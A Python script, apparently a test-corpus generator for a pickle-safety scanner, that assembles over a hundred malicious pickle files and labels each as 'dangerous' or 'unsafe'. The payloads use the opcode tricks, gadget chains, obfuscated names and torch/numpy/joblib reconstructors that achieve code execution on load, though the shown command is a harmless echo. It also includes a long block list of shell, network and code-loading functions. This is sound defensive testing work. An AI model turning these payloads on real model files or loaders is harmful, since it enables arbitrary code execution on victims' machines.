#!/usr/bin/env python3
"""Attack pickles for the scanner: writes one file a case, and index.json. Standard library only; nothing is ever loaded or run.

usage: attacks.py OUT

Every payload that would run is `echo picklevm-test` or as harmless. In index.json each case has its `class`, `reason` and `expect`:
`dangerous` (the verdict must be that) or `unsafe` (anything but safe).
"""
import base64, binascii, bz2, gzip, io, json, lzma, os, struct, sys, tarfile, zipfile, zlib

CASES = []                                        # (file name, bytes, class, expect, reason)
CMD = b"echo picklevm-test"

def case(name, data, klass, reason, expect="dangerous", ext="pkl"):
    assert name not in [c[0].rsplit(".", 1)[0] for c in CASES], name
    CASES.append((f"{name}.{ext}", bytes(data), klass, expect, reason))

# ---- an assembler: each returns bytes --------------------------------------------------------------
le4, le8 = (lambda n: struct.pack("<I", n)), (lambda n: struct.pack("<Q", n))
def b_(x): return x if isinstance(x, bytes) else x.encode("utf-8", "surrogatepass")
def proto(n): return b"\x80" + bytes([n])
def frame(body): return b"\x95" + le8(len(body)) + body
def glob(m, n): return b"c" + b_(m) + b"\n" + b_(n) + b"\n"
def s0(x): return b"S" + repr(b_(x).decode("latin1")).encode() + b"\n"           # STRING
def u0(x): return b"V" + b_(x) + b"\n"                                          # UNICODE
def us(x): return b"X" + le4(len(b_(x))) + b_(x)                                # BINUNICODE
def su(x): return b"\x8c" + bytes([len(b_(x))]) + b_(x)                         # SHORT_BINUNICODE
def sb(x): return b"U" + bytes([len(x)]) + x                                    # SHORT_BINSTRING
def by(x): return b"B" + le4(len(x)) + x                                        # BINBYTES
def sg(m, n): return su(m) + su(n) + b"\x93"                                    # STACK_GLOBAL
def tup(*items): return b"(" + b"".join(items) + b"t"
def call(f, *args): return f + tup(*args) + b"R"
def k(n): return b"K" + bytes([n])
CMDU = us(CMD)
SYSTEM = glob("os", "system")
BENIGN = proto(4) + frame(b"}\x94(" + su("a") + b"\x94K\x01" + su("b") + b"\x94K\x02u.")
def p2(body): return proto(2) + body + b"."
def p4(body): return proto(4) + frame(body + b".")
ATTACK0 = b"cos\nsystem\n(S'echo picklevm-test'\ntR."
ATTACK2 = p2(call(SYSTEM, CMDU))
ATTACK4 = p4(call(sg("os", "system"), su(CMD)))

# ---- 1. the opcodes that import and call ----------------------------------------------------------------
C = "opcode"
case("global_reduce_p0", ATTACK0, C, "GLOBAL os.system, REDUCE, protocol 0")
case("global_reduce_p1", SYSTEM + tup(CMDU) + b"R.", C, "GLOBAL os.system, REDUCE, no PROTO")
case("global_reduce_p2", ATTACK2, C, "GLOBAL os.system, REDUCE, protocol 2")
case("global_reduce_p3", proto(3) + call(SYSTEM, CMDU) + b".", C, "GLOBAL os.system, REDUCE, protocol 3")
case("stack_global_reduce", ATTACK4, C, "STACK_GLOBAL os.system in a frame, REDUCE")
case("stack_global_noframe", proto(4) + call(sg("os", "system"), su(CMD)) + b".", C, "STACK_GLOBAL without a frame")
case("stack_global_p5", proto(5) + frame(call(sg("os", "system"), su(CMD)) + b"."), C, "STACK_GLOBAL at protocol 5")
case("stack_global_binstring_names", p2(sb(b"os") + sb(b"system") + b"\x93" + b"(" + CMDU + b"tR"), C, "STACK_GLOBAL whose names are 8-bit strings of Python 2")
case("stack_global_unicode_text_names", u0("os") + u0("system") + b"\x93(" + u0(CMD) + b"tR.", C, "STACK_GLOBAL in a pickle of text opcodes")
case("stack_global_string_text_names", b"S'os'\nS\"sys\\x74em\"\n\x93(" + s0(CMD) + b"tR.", C, "STACK_GLOBAL whose name has an escape in a quoted STRING")
case("stack_global_unicode_escape_names", u0("o\\u0073") + u0("\\u0073ystem") + b"\x93(" + u0(CMD) + b"tR.", C, "STACK_GLOBAL whose name is escaped raw-unicode")
case("stack_global_binunicode8", proto(4) + b"\x8d" + le8(2) + b"os" + b"\x8d" + le8(6) + b"system\x93(" + CMDU + b"tR.", C, "STACK_GLOBAL whose names come by BINUNICODE8")
case("inst", b"(" + s0(CMD) + b"ios\nsystem\n.", C, "INST os.system calls it")
case("inst_noargs", b"(iantigravity\nfly\n.", C, "INST without arguments imports an unknown module and calls", "unsafe")
case("obj", b"(" + SYSTEM + sb(CMD) + b"o.", C, "OBJ os.system calls it")
case("obj_stack_global", proto(4) + b"(" + sg("os", "system") + su(CMD) + b"o.", C, "OBJ whose class comes by STACK_GLOBAL")
case("newobj_popen", p2(glob("subprocess", "Popen") + tup(CMDU) + b"\x81"), C, "NEWOBJ subprocess.Popen")
case("newobj_ex_popen", p4(sg("subprocess", "Popen") + tup(su(CMD)) + b"}" + su("shell") + b"\x88s\x92"), C, "NEWOBJ_EX subprocess.Popen with shell=True")
case("newobj_function", p2(glob("types", "FunctionType") + tup(b"N", b"}") + b"\x81"), C, "NEWOBJ types.FunctionType")
case("newobj_partial_reduce", p2(glob("functools", "partial") + tup(SYSTEM, CMDU) + b"\x81)R"), C, "NEWOBJ functools.partial(os.system, cmd), then called")
case("reduce_tuple1", p2(SYSTEM + CMDU + b"\x85R"), C, "REDUCE with TUPLE1")
case("reduce_empty_args_after_partial", p2(call(call(glob("functools", "partial"), SYSTEM, CMDU))), C, "partial called with nothing")
case("reduce_in_dict_value", p2(b"}" + us("x") + call(SYSTEM, CMDU) + b"s"), C, "the call is a dict value")
case("reduce_in_dict_key", p2(b"}" + call(SYSTEM, CMDU) + b"Ns"), C, "the call is a dict key")
case("reduce_in_list_deep", p2(b"]" * 50 + call(SYSTEM, CMDU) + b"a" * 50), C, "the call lies 50 lists deep")
case("reduce_in_state", p2(glob("collections", "OrderedDict") + b")R}" + us("a") + call(SYSTEM, CMDU) + b"sb"), C, "the call is inside a state")
case("reduce_as_argument", p2(call(glob("builtins", "list"), tup(call(SYSTEM, CMDU)))), C, "the call is an argument of a harmless call")
case("reduce_as_persid", p2(call(SYSTEM, CMDU) + b"Q"), C, "the call makes a persistent id")
case("reduce_in_set", proto(4) + b"\x8f(" + call(sg("os", "system"), su(CMD)) + b"\x90.", C, "the call is a set member")
case("reduce_in_frozenset", proto(4) + b"(" + call(sg("os", "system"), su(CMD)) + b"\x91.", C, "the call is a frozenset member")
case("reduce_after_large_benign", proto(4) + b"]" + b"(" + (su("x" * 200) * 2000) + b"e" + call(sg("os", "system"), su(CMD)) + b"a.", C, "the call comes after 400 kB of text")
case("reduce_on_instance", p2(call(call(glob("operator", "methodcaller"), us("system"), CMDU), call(glob("importlib", "import_module"), us("os")))), C, "what is called is the result of a call")

case("manual_system", b"cos\nsystem\n(S'echo hello world'\ntR.", C, "the Python manual, `Restricting Globals`: os.system")
case("manual_eval", b"cbuiltins\neval\n(S'getattr(__import__(\"os\"), \"system\")(\"echo hello world\")'\ntR.", C, "the Python manual, `Restricting Globals`: eval")

# ---- 2. BUILD, SETITEM, APPEND, ADDITEMS on what is not plain data -------------------------------------------
C = "state"
dummy = glob("types", "SimpleNamespace") + b")R"
case("build_setstate_gadget", p2(dummy + b"}" + us("__setstate__") + SYSTEM + b"sb" + CMDU + b"b"), C, "BUILD puts os.system at __setstate__, a second BUILD calls it")
case("build_append_gadget", p2(dummy + b"}" + us("append") + SYSTEM + b"sb" + CMDU + b"a"), C, "BUILD puts os.system at append, APPEND calls it")
case("build_extend_gadget", p2(dummy + b"}" + us("extend") + SYSTEM + b"sb(" + CMDU + b"e"), C, "BUILD puts os.system at extend, APPENDS calls it")
case("build_add_gadget", proto(4) + call(sg("types", "SimpleNamespace")) + b"}" + su("add") + sg("os", "system") + b"sb(" + su(CMD) + b"\x90.", C, "BUILD puts os.system at add, ADDITEMS calls it")
case("build_append_eval", p2(dummy + b"}" + us("append") + glob("builtins", "eval") + b"sb" + us("1+1") + b"a"), C, "the same with eval")
case("build_slotstate", p2(dummy + b"N}" + us("__class__") + glob("subprocess", "Popen") + b"s\x86b"), C, "slot state assigns __class__", "unsafe")
case("build_on_class", p2(glob("collections", "OrderedDict") + b"N}" + us("__init__") + SYSTEM + b"s\x86b"), C, "BUILD patches a class through its slot state")
case("build_on_module_attr", p2(glob("sys", "modules") + b"}" + us("json") + b"Nsb"), C, "BUILD on sys.modules", "unsafe")
case("build_builtin_function", p2(glob("builtins", "print") + b"}" + us("x") + b"Nsb"), C, "BUILD on a function", "unsafe")
case("setitem_sys_modules", p2(glob("sys", "modules") + us("json") + glob("os", "system") + b"s"), C, "SETITEM into sys.modules")
case("setitem_environ", p2(glob("os", "environ") + us("LD_PRELOAD") + us("/tmp/x.so") + b"s"), C, "SETITEM into os.environ")
case("setitems_builtins_dict", p2(call(glob("builtins", "vars"), call(glob("builtins", "__import__"), us("builtins"))) + b"(" + us("len") + SYSTEM + b"u"), C, "SETITEMS replaces a builtin")
case("append_sys_path", p2(glob("sys", "path") + us("/tmp/evil") + b"a"), C, "APPEND to sys.path")
case("append_meta_path", p2(glob("sys", "meta_path") + dummy + b"a"), C, "APPEND to sys.meta_path")
case("append_on_global", p2(glob("atexit", "register") + SYSTEM + b"a"), C, "APPEND on a function", "unsafe")
case("append_atexit_callbacks", p2(call(glob("atexit", "register"), SYSTEM, CMDU)), C, "a call is registered for the end of the process")
case("setitem_dispatch_table", p2(glob("copyreg", "dispatch_table") + glob("builtins", "int") + SYSTEM + b"s"), C, "SETITEM into copyreg.dispatch_table", "unsafe")
case("default_factory", p2(call(glob("collections", "defaultdict"), SYSTEM)), C, "os.system waits as default_factory")
case("dataclass_post", p2(glob("dataclasses", "make_dataclass") + tup(us("X"), b"]" + us("a") + b"a") + b"R"), C, "a class is made", "unsafe")
case("type_call_three", p2(call(glob("builtins", "type"), us("X"), b")", b"}" + us("__del__") + SYSTEM + b"s")), C, "type() makes a class whose __del__ is os.system")
case("type_newobj_reduce", p2(call(call(glob("builtins", "type"), us("X"), b")", b"}" + us("__init__") + glob("builtins", "eval") + b"s"))), C, "type() makes a class and it is called")
case("object_setattr", p2(call(glob("builtins", "setattr"), glob("os", "path"), us("join"), SYSTEM)), C, "setattr patches a module")
case("delattr", p2(call(glob("builtins", "delattr"), glob("os", "path"), us("join"))), C, "delattr breaks a module", "unsafe")

# ---- 3. dangerous names, each called or looked up ------------------------------------------------------------
C = "name"
DANGEROUS = """
builtins.eval builtins.exec builtins.compile builtins.__import__ builtins.open builtins.getattr builtins.globals builtins.breakpoint builtins.input builtins.vars
os.popen os.execv os.execl os.spawnv os.spawnlp os.posix_spawn os.fork os.kill os._exit os.remove os.unlink os.rename os.rmdir os.chmod os.putenv os.startfile os.removedirs os.symlink
posix.system posix.popen posix.execv nt.system subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.getoutput subprocess.getstatusoutput
pty.spawn shutil.rmtree shutil.move shutil.copyfile shutil.unpack_archive socket.create_connection socket.socket urllib.request.urlopen urllib.request.urlretrieve
http.client.HTTPConnection ftplib.FTP smtplib.SMTP telnetlib.Telnet poplib.POP3 imaplib.IMAP4 xmlrpc.client.ServerProxy socketserver.TCPServer http.server.HTTPServer
importlib.import_module importlib.reload importlib.__import__ imp.load_source imp.load_dynamic importlib.machinery.SourceFileLoader importlib.util.spec_from_file_location zipimport.zipimporter pkgutil.resolve_name pkgutil.get_loader
runpy.run_path runpy.run_module runpy._run_code code.interact code.InteractiveInterpreter codeop.compile_command ctypes.CDLL ctypes.cdll ctypes.string_at _ctypes.dlopen cffi.FFI
pickle.loads pickle.load pickle.Unpickler _pickle.loads cPickle.loads marshal.loads marshal.load shelve.open dill.loads cloudpickle.loads joblib.load numpy.load torch.load pandas.read_pickle jsonpickle.decode
timeit.timeit timeit.Timer cProfile.run cProfile.runctx profile.run pdb.run pdb.Pdb bdb.Bdb trace.Trace doctest.debug_script unittest.main webbrowser.open antigravity.geohash
multiprocessing.Process multiprocessing.pool.Pool multiprocessing.util.spawnv_passfds concurrent.futures.ProcessPoolExecutor threading.Thread _thread.start_new_thread asyncio.create_subprocess_shell asyncio.run asyncio.unix_events._UnixSubprocessTransport _posixsubprocess.fork_exec
distutils.spawn.spawn distutils.file_util.write_file distutils.core.run_setup setuptools.sandbox.run_setup ensurepip.bootstrap venv.create pip.main pip._internal.main lib2to3.pgen2.pgen.ParserGenerator
pydoc.locate pydoc.pipepager pydoc.tempfilepager pydoc.safeimport site.addpackage site.execsitecustomize logging.config.fileConfig logging.config.dictConfig logging.FileHandler idlelib.pyshell.ModifiedInterpreter.runcode idlelib.run.Executive
types.CodeType types.FunctionType types.MethodType sys.settrace sys.setprofile sys._getframe sys.exit sys.modules signal.signal gc.get_objects inspect.currentframe faulthandler.dump_traceback_later resource.setrlimit
io.open io.FileIO io.open_code _io.open _io.FileIO codecs.open tempfile.NamedTemporaryFile tempfile.mktemp zipfile.ZipFile tarfile.open fileinput.input mmap.mmap sqlite3.connect dbm.open tokenize.open linecache.getlines pathlib.Path.write_text
numpy.testing._private.utils.runstring numpy.f2py.compile numpy.distutils.exec_command.exec_command numpy.ctypeslib.load_library numpy.vectorize numpy.fromfile numpy.memmap numpy.save numpy.testing.rundocs
torch.hub.load torch.utils.cpp_extension.load torch.jit.load torch.ops.load_library torch._inductor.codecache.compile_file torch.utils._config_module.ConfigModule.load_config torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch.utils.data.datapipes.utils.decoder.basichandlers torch.serialization.load torch.storage._load_from_bytes
pandas.eval pandas.core.computation.eval.eval pandas.io.common.get_handle pandas.read_csv scipy.io.loadmat sklearn.utils._testing.check_skip_network sklearn.datasets.load_svmlight_file joblib.memory.Memory joblib.parallel.Parallel transformers.pipeline cgitb.handler uuid._get_command_stdout platform.popen platform._syscmd_uname nturl2path.url2pathname crypt.crypt getpass.getpass operator.attrgetter operator.methodcaller functools.partial functools.reduce builtins.map builtins.filter builtins.apply itertools.starmap _aix_support._read_cmd_output _osx_support._read_output _pyrepl.pager.pipe_pager ssl.get_server_certificate
""".split()
SUSPECT = {"builtins.globals", "builtins.vars", "builtins.input", "sys.exit", "gc.get_objects", "inspect.currentframe", "types.CodeType", "types.MethodType", "itertools.starmap", "builtins.map", "builtins.filter", "functools.reduce", "operator.attrgetter", "operator.methodcaller", "functools.partial", "crypt.crypt", "getpass.getpass", "nturl2path.url2pathname", "builtins.getattr", "numpy.vectorize", "transformers.pipeline"}
ARGS = {"builtins.eval": us("1+1"), "builtins.exec": us("pass"), "functools.partial": SYSTEM}
for i, full in enumerate(DANGEROUS):
    m, n = full.rsplit(".", 1)
    if ".Path." in full or ".ModifiedInterpreter." in full or ".ConfigModule." in full or ".ShapeEnv." in full: h = full.split("."); n = ".".join(h[-2:]); m = ".".join(h[:-2])
    arg = ARGS.get(full, CMDU); expect = "unsafe" if full in SUSPECT or m.split(".")[0] not in sys.stdlib_module_names and m.split(".")[0] not in ("imp", "cPickle", "distutils", "telnetlib", "cgitb", "lib2to3") else "dangerous"
    safe = full.replace(".", "_")
    if i % 3 == 0 and "." not in n: data = p2(call(glob(m, n), arg))
    elif i % 3 == 1: data = p4(call(sg(m, n), su(CMD) if arg is CMDU else arg))
    elif "." not in n: data = b"(" + arg + b"i" + b_(m) + b"\n" + b_(n) + b"\n."
    else: data = p4(call(sg(m, n), arg))
    case("name_" + safe, data, C, f"calls {full}", expect)

# ---- 4. names of Python 2 (mapped below protocol 3) ---------------------------------------------------------
C = "python 2 name"
for m, n in (("__builtin__", "eval"), ("__builtin__", "execfile"), ("__builtin__", "file"), ("__builtin__", "apply"), ("__builtin__", "reduce"), ("__builtin__", "__import__"), ("__builtin__", "getattr"), ("commands", "getoutput"), ("commands", "getstatusoutput"),
             ("popen2", "popen2"), ("os", "popen2"), ("posix", "popen3"), ("urllib", "urlopen"), ("urllib2", "urlopen"), ("httplib", "HTTPConnection"), ("thread", "start_new_thread"), ("new", "function"), ("new", "instancemethod"), ("imp", "load_module"), ("dl", "open"),
             ("SocketServer", "TCPServer"), ("BaseHTTPServer", "HTTPServer"), ("xmlrpclib", "ServerProxy"), ("whichdb", "whichdb"), ("cPickle", "loads"), ("StringIO", "open"), ("cStringIO", "open_code"), ("webbrowser", "open")):
    case(f"py2_{m}_{n}", p2(call(glob(m, n), CMDU)), C, f"{m}.{n}, which Python 3 maps or Python 2 runs", "unsafe" if n in ("whichdb", "reduce", "getattr") else "dangerous")
case("py2_builtin_at_p0", glob("__builtin__", "eval") + tup(s0("1+1")) + b"R.", C, "__builtin__.eval, protocol 0")
case("py2_mapped_reduce_chain", p2(call(glob("__builtin__", "reduce"), glob("__builtin__", "getattr"), tup(call(glob("__builtin__", "__import__"), us("os")), us("system")))), C, "reduce(getattr, ...) by Python 2 names")
case("py2_name_at_p4", p4(call(sg("__builtin__", "eval"), su("1+1"))), C, "a Python 2 name at protocol 4, where it is not mapped", "unsafe")
case("proto_switch_mapping", proto(4) + proto(2) + call(glob("commands", "getoutput"), CMDU) + b".", C, "a second PROTO turns mapping on")
case("proto_switch_in_middle", proto(2) + b"]" + proto(4) + call(sg("os", "system"), su(CMD)) + b"a.", C, "PROTO in the middle of the pickle")

# ---- 5. dotted names and dunder chains -------------------------------------------------------------------
C = "dotted name"
for m, n, e in (("os", "system.__call__", "dangerous"), ("builtins", "eval.__call__", "dangerous"), ("logging", "os.system", "dangerous"), ("collections", "_sys.modules", "unsafe"), ("random", "_os.system", "dangerous"), ("json", "codecs.builtins.eval", "dangerous"),
                ("collections", "OrderedDict.__init__.__globals__", "unsafe"), ("builtins", "int.__class__.__base__.__subclasses__", "unsafe"), ("datetime", "datetime.__class__.__mro__", "unsafe"), ("builtins", "list.__reduce_ex__", "unsafe"), ("functools", "partial.__call__", "unsafe"),
                ("numpy", "f2py.os.system", "dangerous"), ("numpy", "testing._private.utils.runstring", "unsafe"), ("torch", "os.system", "dangerous"), ("torch", "_utils.os.popen", "dangerous"), ("pandas", "compat.platform.os.system", "dangerous"), ("sklearn", "os.system", "unsafe"), ("enum", "sys.modules", "unsafe"), ("decimal", "Decimal.__class__", "unsafe"), ("copyreg", "__newobj__.__globals__", "unsafe"),
                ("collections", "namedtuple.__builtins__", "unsafe"), ("datetime", "sys.modules.__getitem__", "unsafe"), ("builtins", "__loader__.load_module", "unsafe"), ("builtins", "__spec__.loader.load_module", "unsafe"), ("collections", "abc.__loader__.get_data", "unsafe"), ("os", "path.os.system", "dangerous"), ("builtins", "object.__setattr__", "unsafe"), ("builtins", "type.__call__", "unsafe"), ("builtins", "dict.__class__.__call__", "unsafe")):
    case("dotted_" + m + "_" + n.replace(".", "_"), p4(call(sg(m, n), su(CMD))), C, f"STACK_GLOBAL walks {m}: {n}", e)
case("dotted_in_global_p3", proto(3) + call(glob("os", "path.os.system"), CMDU) + b".", C, "a dotted name in GLOBAL at protocol 3 (resolved only from 4 on)", "unsafe")
case("dotted_global_p4", proto(4) + call(glob("os", "system.__call__"), CMDU) + b".", C, "a dotted name in GLOBAL at protocol 4, where it is resolved")
case("dotted_inst_p4", proto(4) + b"(" + CMDU + b"ilogging\nos.system\n.", C, "a dotted name in INST at protocol 4")
case("dotted_locals", p4(call(sg("os", "<locals>.system"), su(CMD))), C, "<locals> in a name", "unsafe")
case("dotted_allowed_prefix", p4(call(sg("collections", "OrderedDict.fromkeys.__self__.__init__.__globals__"), su("x"))), C, "an allowed class is only the start of the name", "unsafe")
case("empty_name", p4(call(sg("os", ""), su(CMD))), C, "an empty name", "unsafe")
case("empty_component", p4(call(sg("os", ".system"), su(CMD))), C, "an empty component", "unsafe")
case("module_is_submodule", p4(call(sg("os.path", "os.system"), su(CMD))), C, "os reached through os.path")

# ---- 6. names and functions that calls compute -------------------------------------------------------------
C = "computed"
GETATTR, IMPORT = glob("builtins", "getattr"), glob("builtins", "__import__")
case("getattr_import", p2(call(call(GETATTR, call(IMPORT, us("os")), us("system")), CMDU)), C, "getattr(__import__('os'), 'system')(cmd)")
case("getattr_global_module", p2(call(call(GETATTR, glob("os", "path"), us("os")), CMDU)), C, "getattr on a looked-up module", "unsafe")
case("getattr_dunder_chain", p2(call(call(GETATTR, call(GETATTR, call(GETATTR, b")", us("__class__")), us("__base__")), us("__subclasses__")))), C, "().__class__.__base__.__subclasses__() by getattr")
case("getattr_builtins_eval", p2(call(call(GETATTR, call(IMPORT, us("builtins")), us("eval")), us("1+1"))), C, "getattr(builtins, 'eval')")
case("importlib_chain", p2(call(call(GETATTR, call(glob("importlib", "import_module"), us("subprocess")), us("call")), CMDU)), C, "importlib.import_module, getattr")
case("importlib_dotted", p4(call(call(sg("operator", "attrgetter"), su("system")), call(sg("importlib", "import_module"), su("os")))), C, "operator.attrgetter on an imported module")
case("methodcaller", p4(call(call(sg("operator", "methodcaller"), su("system"), su(CMD)), call(sg("importlib", "import_module"), su("os")))), C, "operator.methodcaller('system', cmd)(os)")
case("pkgutil_resolve", p4(call(call(sg("pkgutil", "resolve_name"), su("os:system")), su(CMD))), C, "pkgutil.resolve_name('os:system')")
case("pydoc_locate", p4(call(call(sg("pydoc", "locate"), su("os.system")), su(CMD))), C, "pydoc.locate('os.system')")
case("functools_reduce_getattr", p4(call(call(sg("functools", "reduce"), sg("builtins", "getattr"), tup(call(sg("builtins", "__import__"), su("os")), su("system"))), su(CMD))), C, "functools.reduce(getattr, (os, 'system'))")
case("functools_partial_nested", p4(call(call(sg("functools", "partial"), call(sg("functools", "partial"), sg("os", "system")), su(CMD)))), C, "partial in partial")
case("partial_build_state", p2(call(glob("functools", "partial"), glob("builtins", "print")) + tup(SYSTEM, tup(CMDU), b"}", b"N") + b"b)R"), C, "BUILD changes what a partial of print calls, then it is called")
case("map_list", p2(call(glob("builtins", "list"), call(glob("builtins", "map"), SYSTEM, b"]" + CMDU + b"a"))), C, "list(map(os.system, [cmd]))")
case("map_set_newobj", p2(call(glob("builtins", "set"), call(glob("builtins", "map"), glob("builtins", "eval"), b"]" + us("1+1") + b"a"))), C, "set(map(eval, ...))")
case("filter_tuple", p2(call(glob("builtins", "tuple"), call(glob("builtins", "filter"), SYSTEM, b"]" + CMDU + b"a"))), C, "tuple(filter(os.system, ...))")
case("sorted_key", p4(call(call(sg("functools", "partial"), sg("builtins", "sorted")), b"]" + su(CMD) + b"a")), C, "sorted with a key to come", "unsafe")
case("max_key_partial", p4(call(sg("functools", "partial"), sg("builtins", "max")) + tup(sg("builtins", "max"), tup(b"]" + su(CMD) + b"a"), b"}" + su("key") + sg("os", "system") + b"s", b"N") + b"b)R"), C, "max([...], key=os.system) through a partial's state")
case("starmap_deque", p4(call(sg("collections", "deque"), call(sg("itertools", "starmap"), sg("os", "system"), b"]" + tup(su(CMD)) + b"a"))), C, "deque(starmap(os.system, [(cmd,)]))")
case("accumulate", p4(call(sg("builtins", "list"), call(sg("itertools", "accumulate"), b"](" + su("a") + su("b") + b"e", sg("builtins", "eval")))), C, "list(accumulate(..., eval))")
case("codecs_decode_name", p4(call(sg("_codecs", "decode"), su("bf"), su("rot13")) + call(sg("_codecs", "decode"), su("flfgrz"), su("rot13")) + b"\x93" + tup(su(CMD)) + b"R"), C, "STACK_GLOBAL on names that codecs.decode computes by rot13")
case("codecs_encode_name", p4(call(sg("_codecs", "encode"), su("bf"), su("rot13")) + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "STACK_GLOBAL on a module name that codecs.encode computes")
case("operator_concat_name", p4(call(sg("operator", "concat"), su("o"), su("s")) + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "STACK_GLOBAL on a concatenated module name")
case("operator_add_name", p4(call(sg("operator", "add"), su("o"), su("s")) + call(sg("operator", "add"), su("sys"), su("tem")) + b"\x93" + tup(su(CMD)) + b"R"), C, "both names concatenated")
case("str_call_name", p4(call(sg("builtins", "str"), by(b"os"), su("ascii")) + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "STACK_GLOBAL on str(b'os', 'ascii')")
case("join_name", p4(call(call(sg("builtins", "getattr"), su(""), su("join")), b"](" + su("o") + su("s") + b"e") + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "STACK_GLOBAL on ''.join(['o', 's'])")
case("str_join_dotted_name", p4(call(sg("builtins", "str.join"), su(""), b"](" + su("o") + su("s") + b"e") + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "the same by the dotted name str.join")
case("base64_name", p4(call(sg("_codecs", "decode"), call(sg("base64", "b64decode"), su("b3M=")), su("ascii")) + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "a name from base64")
case("persid_name", p4(su("pid") + b"Q" + su("system") + b"\x93" + tup(su(CMD)) + b"R"), C, "the module name is a persistent reference", "unsafe")
case("codecs_exec_chain", p2(call(glob("builtins", "exec"), call(glob("_codecs", "decode"), us("cnff"), us("rot13")))), C, "exec of what codecs.decode makes")
case("zlib_exec", p2(call(glob("builtins", "exec"), call(glob("zlib", "decompress"), proto(3) * 0 + by(zlib.compress(b"pass"))))), C, "exec of decompressed code")
case("marshal_function", p2(call(call(glob("types", "FunctionType"), call(glob("marshal", "loads"), by(b"\xe3\x00")), b"}"))), C, "a function made of marshalled code, called")
case("code_object", p2(call(glob("types", "CodeType"), *([k(0)] * 6), by(b"S\x00"), b")", b")", b")", us("f"), us("f"), k(1), by(b""))), C, "a code object", "unsafe")
case("compile_exec", p2(call(glob("builtins", "exec"), call(glob("builtins", "compile"), us("pass"), us("x"), us("exec")))), C, "exec(compile(...))")
case("type_of_gadget", p2(call(call(glob("builtins", "type"), SYSTEM), b"N")), C, "type(os.system)(...)", "dangerous")
case("globals_getitem", p2(call(call(GETATTR, call(glob("builtins", "globals")), us("get")), us("__builtins__"))), C, "globals().get('__builtins__')", "unsafe")
case("dict_get_chain", p2(call(call(GETATTR, glob("sys", "modules"), us("get")), us("os"))), C, "sys.modules.get('os')", "unsafe")
case("operator_itemgetter_modules", p4(call(call(sg("operator", "itemgetter"), su("os")), sg("sys", "modules"))), C, "itemgetter('os')(sys.modules)", "unsafe")
case("operator_call", p4(call(sg("operator", "call"), sg("os", "system"), su(CMD))), C, "operator.call(os.system, cmd)")
case("re_sub_callable", p4(call(sg("re", "sub"), su(".+"), sg("os", "system"), su(CMD))), C, "re.sub with a function")
case("json_object_hook", p2(call(glob("functools", "partial"), glob("json", "loads")) + tup(glob("json", "loads"), tup(us("{}")), b"}" + us("object_hook") + glob("builtins", "eval") + b"s", b"N") + b"b)R"), C, "json.loads with eval as hook")
case("weakref_finalize", p4(call(sg("weakref", "finalize"), sg("collections", "OrderedDict"), sg("os", "system"), su(CMD))), C, "weakref.finalize runs os.system later")
case("contextlib_callback", p4(call(sg("contextlib", "ExitStack"))+ b"0" + call(sg("threading", "Timer"), k(0), sg("os", "system"))), C, "threading.Timer on os.system")
case("string_formatter", p4(call(sg("string", "Formatter.vformat"), b"N", su("{0.__class__}"), tup(su("x")), b"}")), C, "format string with attribute access", "unsafe")
case("mock_importer", p4(call(sg("unittest.mock", "_importer"), su("os.system"))), C, "unittest.mock._importer", "unsafe")
case("np_vectorize", p4(call(call(sg("numpy", "vectorize"), sg("os", "system")), su(CMD))), C, "numpy.vectorize(os.system)")
case("np_apply", p4(call(sg("numpy", "apply_along_axis"), sg("os", "system"), k(0), b"]" + su(CMD) + b"a")), C, "numpy.apply_along_axis(os.system)")
case("pandas_apply", p4(call(sg("pandas", "Series.apply"), call(sg("pandas", "Series"), b"]" + su(CMD) + b"a"), sg("os", "system"))), C, "pandas.Series.apply(os.system)")
case("sklearn_function_transformer", p4(sg("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81}" + su("func") + sg("os", "system") + b"sb"), C, "os.system waits in a FunctionTransformer")
case("allowed_class_bad_argument", p4(call(sg("collections", "defaultdict"), call(sg("functools", "partial"), sg("os", "system"), su(CMD)))), C, "harmless class, harmful argument")
case("ordereddict_of_call", p4(call(sg("collections", "OrderedDict"), b"]" + tup(su("a"), call(sg("os", "system"), su(CMD))) + b"a")), C, "a call inside the argument of an allowed class")
case("reconstructor_bad_class", p2(call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("builtins", "object"), b"N")), C, "copyreg._reconstructor of Popen")
case("newobj_helper_bad_class", call(glob("copy_reg", "__newobj__"), glob("subprocess", "Popen"), CMDU) + b".", C, "copyreg.__newobj__ of Popen")
case("newobj_ex_helper", call(glob("copyreg", "__newobj_ex__"), glob("subprocess", "Popen"), tup(CMDU), b"}") + b".", C, "copyreg.__newobj_ex__ of Popen")
case("torch_rebuild_bad", p2(call(glob("torch._utils", "_rebuild_from_type_v2"), SYSTEM, glob("builtins", "str"), tup(CMDU), b"}")), C, "torch's _rebuild_from_type_v2 calls its argument")
case("torch_tensor_setstate", p2(glob("torch", "Tensor") + b")R}" + us("__setstate__") + SYSTEM + b"sb" + CMDU + b"b"), C, "BUILD gadget on a torch class")
case("np_reconstruct_bad", p2(call(glob("numpy._core.multiarray", "_reconstruct"), glob("subprocess", "Popen"), k(0) + b"\x85", by(b"b"))), C, "numpy _reconstruct of Popen")
case("np_scalar_object", p2(call(glob("numpy._core.multiarray", "scalar"), call(glob("numpy", "dtype"), us("O8"), b"I00\n", b"I01\n"), by(ATTACK4))), C, "an attack as the bytes of a numpy scalar of dtype object", "unsafe")
case("np_frombuffer_pickle", p2(call(glob("numpy._core.numeric", "_frombuffer"), by(ATTACK4), call(glob("numpy", "dtype"), us("u1"), b"I00\n", b"I01\n"), b"K\x01\x85", us("C"))), C, "a pickle in an array's bytes", "unsafe")
case("joblib_wrapper", p2(glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + us("subclass") + glob("subprocess", "Popen") + us("shape") + b"K\x01\x85" + us("order") + us("C") + us("dtype") + call(glob("numpy", "dtype"), us("O8"), b"I00\n", b"I01\n") + us("allow_mmap") + b"I00\nub"), C, "joblib wrapper of a foreign class with an object dtype follows")

def torch_zip_early(data):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w") as z: z.writestr(zipfile.ZipInfo("archive/data.pkl", (1980, 1, 1, 0, 0, 0)), data)
    return f.getvalue()
